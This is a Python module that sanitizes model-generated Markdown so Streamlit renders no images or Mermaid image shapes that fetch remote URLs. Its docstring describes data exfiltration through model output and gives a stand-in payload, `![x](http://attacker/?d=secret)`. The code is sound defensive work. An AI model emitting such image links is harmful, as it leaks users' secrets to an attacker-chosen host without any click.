"""Text from outside (model answers, thinking, node errors) made safe for ``st.markdown``.

Rendered as is, model output could make the browser fetch a URL of the model's choosing
the moment it appears (``![x](http://attacker/?d=secret)``): data leaves the machine
without a click. What Streamlit's Markdown (1.67, react-markdown) turns into a fetch, as
seen in Chromium (``tests/e2e/test_no_remote_requests.py``):

- images, the only Markdown syntax for which is ``!`` followed by ``[``: inline
  ``![a](url)``, reference ``![a][r]``, collapsed ``![a][]`` and shortcut ``![a]`` with
  a ``[r]: url`` definition;
- a ```` ```mermaid ```` block, drawn by Mermaid, whose image shapes (``A@{ img: url }``)
  fetch their URL while the diagram is laid out.

Inert there: raw HTML (``<img>``, ``<iframe>``, ``<video>``, ``style="url(...)"`` ... are
shown as text while ``unsafe_allow_html`` is off, which Hydra never turns on), links and
autolinks (fetched on a click only: the user's choice), KaTeX (``\\includegraphics`` and
``\\href`` need ``trust``, which is off).

So ``safe_markdown`` replaces each image by inert text, ``[image: alt — `url`]``, breaks
every other ``![`` with an invisible WORD JOINER between ``!`` and ``[`` (no renderer reads
that as an image), and shows a mermaid block as its source. Fenced code blocks stay
byte for byte (Rust's ``vec![1]`` must copy unchanged) only where nothing before them
could make the renderer read those lines as something else; at the first doubt the rest
of the text is treated as prose. Safety never rests on guessing the renderer right: a
wrong guess can only put an invisible joiner or an ``[image: …]`` into a code block.
"""
from __future__ import annotations

import bisect
import html
import re
from collections.abc import Iterator, Mapping
from dataclasses import dataclass

WORD_JOINER = "\u2060"
URL_SHOWN = 120  # characters of an image's URL shown in its place

_LINE = re.compile(r"[^\r\n]*(?:\r\n|\r|\n|$)")  # CommonMark's line endings, not str.splitlines'
# Block-quote markers, list markers and footnote labels in front of a line's content.
_CONTAINERS = re.compile(r"(?:[ \t]*(?:>|[-+*](?=[ \t]|$)|\d{1,9}[.)](?=[ \t]|$)|\[\^(?:[^\]\\\r\n]|\\.)*\]:))*[ \t]*")
_FENCE = re.compile(r"(`{3,}|~{3,})(.*)", re.DOTALL)
_OPENER = re.compile(r"( {0,3})(`{3,}|~{3,})(.*)", re.DOTALL)  # a fence at the top level (or in a list item)
_CLOSER = re.compile(r"[ \t]*(`{3,}|~{3,})[ \t]*")
# HTML blocks that a blank line does not end (CommonMark kinds 1-5): after one, trust no fence.
_LONG_HTML = re.compile(r"<(?:(?:script|pre|style|textarea)(?:[\s>]|$)|!|\?)", re.IGNORECASE)
_TABLE_DELIMITER = re.compile(r"[|: \t-]*-[|: \t-]*")
_ESCAPABLE = re.compile(r"\\([!-/:-@\[-`{-~])")
_TICKS = re.compile(r"`+")
_MD_SPECIAL = re.compile(r"([\\`*_{}\[\]()#+\-.!|<>~:$])")
_ANGLE_URL = re.compile(r"(?:[^>\\\r\n]|\\.)*>")
_BARE_URL = re.compile(r"(?:[^\s()\\]|\\.|\((?:[^\s()\\]|\\.)*\))*")
_TITLES = {closer: re.compile(rf"(?:[^{re.escape(closer)}\\]|\\.)*{re.escape(closer)}", re.DOTALL) for closer in "\"')"}
# How far an image's URL or title may reach, and how many "![" of a paragraph are parsed
# (CommonMark sets no bound): past these, "![" is only made inert, so no text makes this slow.
_REACH = 4000
_TRIES = 256
_DEFINITION = re.compile(r"^[ \t>*+\-\d.)]*\[((?:[^\]\\\r\n]|\\.)+)\]:[ \t]*(?:\r\n|\r|\n)?[ \t]*(<[^>\r\n]*>|\S+)",
                         re.MULTILINE)


def safe_markdown(text: str | None) -> str:
    """``text`` as Markdown that makes the browser fetch nothing when Streamlit renders it."""
    text = text or ""
    if "![" not in text and "mermaid" not in text.lower() and "&" not in text:
        return text  # the common case, for the live cards' twice-a-second redraw
    definitions = _definitions(text)
    return "".join(piece if is_code else _defuse_prose(piece, definitions) for is_code, piece in _blocks(text))


def code_span(text: str) -> str:
    """``text`` as one inline code span, whatever backticks it holds (one line)."""
    text = " ".join(text.split())
    longest = max((len(run) for run in re.findall(r"`+", text)), default=0)
    fence = "`" * (longest + 1)
    pad = " " if text[:1] == "`" or text[-1:] == "`" else ""
    return f"{fence}{pad}{text or ' '}{pad}{fence}"


def inert_image(alt: str, url: str) -> str:
    """What an image shows instead: ``[image: alt — `url`]``, as text."""
    alt = _MD_SPECIAL.sub(r"\\\1", " ".join(_ESCAPABLE.sub(r"\1", alt).split()))
    label = f"image: {alt}" if alt else "image"
    url = " ".join(url.split())
    if len(url) > URL_SHOWN:
        url = url[: URL_SHOWN - 1] + "…"
    return f"\\[{label} — {code_span(url)}\\]" if url else f"\\[{label}\\]"


# --- blocks: which lines are fenced code the renderer agrees on --------------------------------

def _indent(line: str) -> int:
    """Columns of leading whitespace (a tab runs to the next multiple of 4)."""
    column = 0
    for ch in line:
        if ch == " ":
            column += 1
        elif ch == "\t":
            column += 4 - column % 4
        else:
            break
    return column


def _decoded(info: str) -> str:
    # More decoding than CommonMark does (escapes first, then entities) finds more, never less.
    return html.unescape(_ESCAPABLE.sub(r"\1", info))


def _defuse_fence(line: str, start: int) -> str:
    """A fence line (its fence at ``start``) whose info string names mermaid, made a plain ``text`` block."""
    match = _FENCE.match(line, start)
    if match is None:
        return line
    body = match.group(2)
    ending = body[len(body.rstrip("\r\n")):]
    if "mermaid" not in _decoded(body).lower():
        return line
    space = body[:len(body) - len(body.lstrip(" \t"))]
    return line[:start] + match.group(1) + space + "text" + ending


def _container_end(line: str) -> int:
    """Where a line's content starts, after quote markers, list markers and footnote labels."""
    prefix = _CONTAINERS.match(line)
    return prefix.end() if prefix else 0


@dataclass
class _Fence:
    char: str
    length: int
    indent: int


class _Blocks:
    """Splits text into fenced code (kept as is) and the rest, line by line.

    A fence opener is claimed as code only while nothing before it could hide it from the
    renderer: a ``$$`` math block, a ``:::`` directive (its end ends a fence in it) or an HTML
    block of kinds 1-5 (they outlive blank lines); or, until the next blank line, an HTML
    block of kinds 6-7, a table, a link or footnote definition (a title may span lines) or a
    ``::`` directive. Any fence-like line that is not claimed, and any fence end the renderer
    might see elsewhere (a list item may have ended), stop all claims for the rest of the
    text: from there on, everything is prose.
    """

    def __init__(self, text: str) -> None:
        self.trusted = not text.startswith("\ufeff")  # a byte-order mark the renderer drops: no guessing
        self.hold = False  # until a blank line, claim nothing
        self.fence: _Fence | None = None

    def code_line(self, line: str) -> bool:
        """Whether ``line`` is code (the renderer shows it verbatim); updates the state."""
        if self.fence is not None:
            return self._inside(line)
        content = line[_container_end(line):]
        if _FENCE.match(content):
            self.fence = self._claim(line)
            return self.fence is not None
        if not content.strip(" \t\r\n"):
            self.hold = False
        elif content.startswith(("$$", ":::")) or _LONG_HTML.match(content):
            self.trusted = False
        elif content.startswith(("<", "[", "::")) or ("|" in content and _TABLE_DELIMITER.fullmatch(content.rstrip())):
            self.hold = True
        return False

    def _claim(self, line: str) -> _Fence | None:
        """The fence ``line`` opens, if it is one for sure; else no fence is ever claimed again."""
        opener = _OPENER.match(line)
        if opener and self.trusted and not self.hold and not (opener.group(2)[0] == "`" and "`" in opener.group(3)):
            return _Fence(opener.group(2)[0], len(opener.group(2)), len(opener.group(1)))
        self.trusted = False
        return None

    def _inside(self, line: str) -> bool:
        fence = self.fence
        assert fence is not None
        if not line.strip(" \t\r\n"):
            return True
        indent = _indent(line)
        closer = _CLOSER.fullmatch(line.rstrip("\r\n"))
        if closer and closer.group(1)[0] == fence.char and len(closer.group(1)) >= fence.length \
                and indent <= fence.indent + 3:
            self.fence = None
            if not fence.indent <= indent <= 3:  # a list item's fence may close here, or its item end
                self.trusted = False
            return True
        if indent < fence.indent:  # a list item may have ended here, and its fence with it
            self.fence = None
            self.trusted = False
            return self.code_line(line)
        return True


def _blocks(text: str) -> Iterator[tuple[bool, str]]:
    """(is_code, text) pieces of ``text`` in order; fence lines of mermaid blocks made ``text`` blocks."""
    blocks = _Blocks(text)
    prose: list[str] = []
    for line in _LINE.findall(text):
        if not line:
            continue
        opening = blocks.fence is None
        if blocks.code_line(line):
            if prose:
                yield False, "".join(prose)
                prose = []
            yield True, _defuse_fence(line, _indent(line)) if opening else line
            continue
        prose.append(_defuse_fence(line, _container_end(line)))
    if prose:
        yield False, "".join(prose)


# --- prose: images become text ----------------------------------------------------------------

def _label(text: str) -> str:
    return " ".join(_ESCAPABLE.sub(r"\1", text).split()).casefold()


def _definitions(text: str) -> dict[str, str]:
    """Link reference definitions, label -> destination (the first of a label wins, as in CommonMark)."""
    found: dict[str, str] = {}
    for match in _DEFINITION.finditer(text):
        found.setdefault(_label(match.group(1)), match.group(2).strip("<>"))
    return found


def _defuse_prose(text: str, definitions: Mapping[str, str]) -> str:
    pieces = [_replace_images(paragraph, definitions) for paragraph in re.split(r"(\n[ \t]*\n)", text)]
    # Whatever "![" is left (in code spans, or not parsed as an image here) can no longer start one.
    return "".join(pieces).replace("![", "!" + WORD_JOINER + "[")


def _escaped(text: str, index: int) -> bool:
    """Whether ``text[index]`` follows an odd number of backslashes."""
    count = 0
    while index - count - 1 >= 0 and text[index - count - 1] == "\\":
        count += 1
    return count % 2 == 1


def _code_spans(text: str) -> dict[int, int]:
    """Inline code spans, start -> end: a backtick run up to the next run of the same length."""
    runs = [(m.start(), m.end()) for m in _TICKS.finditer(text)]
    starts_by_length: dict[int, list[int]] = {}
    for run_start, run_end in runs:
        starts_by_length.setdefault(run_end - run_start, []).append(run_start)
    spans: dict[int, int] = {}
    done = 0
    for run_start, run_end in runs:
        opener = run_start + 1 if _escaped(text, run_start) else run_start  # "\\`" is a literal backtick
        if opener < done or opener == run_end:
            continue
        candidates = starts_by_length.get(run_end - opener, [])
        index = bisect.bisect_left(candidates, run_end)
        if index < len(candidates):
            spans[opener] = done = candidates[index] + run_end - opener
    return spans


def _replace_images(text: str, definitions: Mapping[str, str]) -> str:
    """Each image outside code spans replaced by its inert text (up to ``_TRIES`` attempts)."""
    spans = _code_spans(text)
    span_starts = sorted(spans)
    brackets = _brackets(text, spans)
    out, start, i, tries = [], 0, 0, 0
    while (bang := text.find("![", i)) >= 0 and tries < _TRIES:
        k = bisect.bisect_right(span_starts, bang) - 1
        if k >= 0 and bang < spans[span_starts[k]]:  # in a code span: no image there
            i = spans[span_starts[k]]
            continue
        tries += 1
        if not _escaped(text, bang) and (image := _image_at(text, bang, definitions, brackets)) is not None:
            end, alt, url = image
            out += [text[start:bang], inert_image(alt, url)]
            start = i = end
        else:
            i = bang + 1
    out.append(text[start:])
    return "".join(out)


def _brackets(text: str, spans: Mapping[int, int]) -> dict[int, int]:
    """Each ``[`` -> its matching ``]`` (nested, backslash escapes, never inside code spans), in one pass."""
    matches: dict[int, int] = {}
    opened: list[int] = []
    i = 0
    while i < len(text):
        ch = text[i]
        if i in spans:
            i = spans[i]
            continue
        if ch == "\\":
            i += 2
            continue
        if ch == "[":
            opened.append(i)
        elif ch == "]" and opened:
            matches[opened.pop()] = i
        i += 1
    return matches


def _image_at(text: str, bang: int, definitions: Mapping[str, str],
              brackets: Mapping[int, int]) -> tuple[int, str, str] | None:
    """(end, alt, url) of the image whose ``![`` is at ``bang``; None if none is recognised here."""
    close = brackets.get(bang + 1)
    if close is None:
        return None
    alt = text[bang + 2:close]
    after = close + 1
    if text.startswith("(", after):
        inline = _inline_destination(text, after)
        return None if inline is None else (inline[0], alt, inline[1])
    label, end = alt, after
    if (ref_close := brackets.get(after)) is not None:
        label, end = (text[after + 1:ref_close] or alt), ref_close + 1
    url = definitions.get(_label(label))
    return None if url is None else (end, alt, url)


def _skip_space(text: str, i: int) -> int:
    while i < len(text) and text[i] in " \t\r\n":
        i += 1
    return i


def _inline_destination(text: str, paren: int) -> tuple[int, str] | None:
    """(end, url) of ``(url "title")`` starting at ``paren``: angle-bracket or bare URL, optional title."""
    i = _skip_space(text, paren + 1)
    if text.startswith("<", i):
        close = _ANGLE_URL.match(text, i + 1, i + _REACH)
        if close is None:
            return None
        url, i = text[i + 1:close.end() - 1], close.end()
    else:
        bare = _BARE_URL.match(text, i, i + _REACH)
        assert bare is not None  # the pattern matches the empty string
        url, i = bare.group(), bare.end()
    i = _skip_space(text, i)
    if i < len(text) and text[i] in "\"'(":
        title = _TITLES[")" if text[i] == "(" else text[i]].match(text, i + 1, i + _REACH)
        if title is None:
            return None
        i = _skip_space(text, title.end())
    return (i + 1, url) if text.startswith(")", i) else None
